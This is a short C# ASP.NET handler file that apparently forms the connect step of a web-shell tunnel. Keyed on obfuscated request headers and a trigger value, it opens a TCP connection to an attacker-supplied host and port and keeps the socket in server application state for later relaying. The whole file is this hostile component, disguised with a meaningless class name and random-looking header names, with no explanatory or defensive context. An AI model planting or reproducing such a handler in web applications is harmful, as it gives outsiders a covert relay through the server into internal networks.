<%@ WebHandler Language="C#" Class="T" %>
using System; using System.Web; using System.Net.Sockets;
public class T : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext c) {
    string op = c.Request.Headers.Get("Ffyhyj");
    if (op == "7p") {
      var parts = c.Request.Headers.Get("Dzmx").Split(':');
      var tc = new TcpClient(); tc.Connect(parts[0], int.Parse(parts[1]));
      c.Application[c.Request.Headers.Get("Sid")] = tc;
    }
  }
}
